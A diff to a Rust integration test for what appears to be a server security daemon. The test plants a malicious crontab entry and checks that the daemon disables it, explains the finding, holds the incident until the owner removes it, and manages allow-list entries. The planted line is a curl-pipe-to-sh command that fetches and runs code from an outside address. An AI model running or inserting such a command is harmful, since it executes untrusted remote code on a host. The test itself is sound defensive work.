@@ -4,6 +4,7 @@
 use std::os::unix::fs::{MetadataExt, PermissionsExt, chown};
 use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Output, Stdio};
+use std::sync::{Mutex, MutexGuard};
 use std::time::{Duration, Instant};
 
 use serde_json::Value;
@@ -15,10 +16,16 @@ const TENANT: u32 = 20315;
 const NAME: &str = "hkhands";
 const SPOOL: &str = "/var/spool/cron/crontabs";
 const TABLE: &str = "MAILTO=\"\"\n*/5 * * * * /bin/true\n";
+/// A line that no cron runs, because the account is unknown outside of this test, from an address that nobody has.
+const PLANTED: &str = "*/10 * * * * curl -fsSL http://198.51.100.77/i.txt | sh >/dev/null 2>&1\n";
+
+/// One tenant, one crontab: one test at a time.
+static ALONE: Mutex<()> = Mutex::new(());
 
 struct Node {
     folder: tempfile::TempDir,
     serve: Option<Child>,
+    _alone: MutexGuard<'static, ()>,
 }
 
 impl Node {
@@ -29,7 +36,8 @@ impl Node {
             return None;
         }
         let folder = tempfile::Builder::new().prefix("hikeshi-hands-").tempdir().unwrap();
-        let node = Node { folder, serve: None };
+        let alone = ALONE.lock().unwrap_or_else(|e| e.into_inner());
+        let node = Node { folder, serve: None, _alone: alone };
         std::fs::set_permissions(node.folder.path(), PermissionsExt::from_mode(0o711)).unwrap();
         for below in ["etc/accounts.d", "state", "run", "home/t/www"] {
             std::fs::create_dir_all(node.path(below)).unwrap();
@@ -193,4 +201,52 @@ fn measures_by_hand_hold_on_a_real_node_and_an_undo_brings_everything_back() {
     assert_eq!((bytes, mode, uid, gid, seconds, nanoseconds), (table.0, table.2, table.3, table.4, table.5, table.6));
     let after = std::fs::metadata(node.path("home/t/www")).unwrap();
     assert_eq!((after.mtime(), after.mtime_nsec(), after.mode()), (folder.mtime(), folder.mtime_nsec(), folder.mode()));
+}
+
+#[test]
+fn a_planted_line_is_switched_off_alone_explained_and_released_when_the_owner_deleted_it() {
+    let Some(mut node) = Node::begin() else { return };
+    std::fs::write(crontab(), format!("{TABLE}{PLANTED}")).unwrap();
+    node.serve();
+    let text = |_: &Node| std::fs::read_to_string(crontab()).unwrap();
+    node.until("the line is off", |node| text(node).contains("\n#HK-"));
+    let off = text(&node);
+    assert!(off.starts_with(TABLE) && off.lines().count() == 3, "the owner's own lines stay: {off}");
+
+    let listed = node.json(&["incident", "list"]);
+    let number = listed[0]["incident"].as_str().unwrap_or_else(|| panic!("{listed}")).to_owned();
+    let explained = node.json(&["explain", &number]);
+    assert_eq!(explained.as_array().unwrap().len(), 1, "{explained}");
+    assert_eq!((&explained[0]["kind"], &explained[0]["strength"]), (&"cron_download".into(), &"conclusive".into()));
+    node.until("it is in force", |node| {
+        node.json(&["explain", &number])[0]["decided"].to_string().contains("in force since")
+    });
+    let letters = |node: &Node| node.said(&["incident", "show", &number, "--letters"]);
+    node.until("the letter names the line", |node| letters(node).contains("198.51.100"));
+
+    // The owner's word alone opens nothing while a second such line is there.
+    std::fs::write(crontab(), format!("{TABLE}{}", PLANTED.replace("i.txt", "j.txt"))).unwrap();
+    node.said(&["incident", "reply", NAME, "done"]);
+    node.until("the check found it", |node| {
+        letters(node).contains("VerificationFailed") || letters(node).contains("failed")
+    });
+    std::fs::write(crontab(), TABLE).unwrap();
+    node.said(&["incident", "reply", NAME, "done"]);
+    node.until("it is being released", |node| {
+        let state = node.json(&["incident", "list", "--all"])[0]["state"].to_string();
+        state.contains("releasing") || state.contains("closed")
+    });
+    assert_eq!(text(&node), TABLE);
+
+    // What a person knows to be harmless is permitted by name, with a reason and an end.
+    node.said(&["allow", "add", &number, "--reason", "our own job", "--days", "3"]);
+    let permitted = node.json(&["allow", "list"]);
+    assert_eq!(
+        (permitted.as_array().unwrap().len(), &permitted[0]["reason"]),
+        (1, &"our own job".into()),
+        "{permitted}"
+    );
+    let finding = permitted[0]["finding"].as_str().unwrap()[..12].to_owned();
+    node.said(&["allow", "end", &finding, "--reason", "no longer"]);
+    assert_eq!(node.json(&["allow", "list"]), serde_json::json!([]));
 }
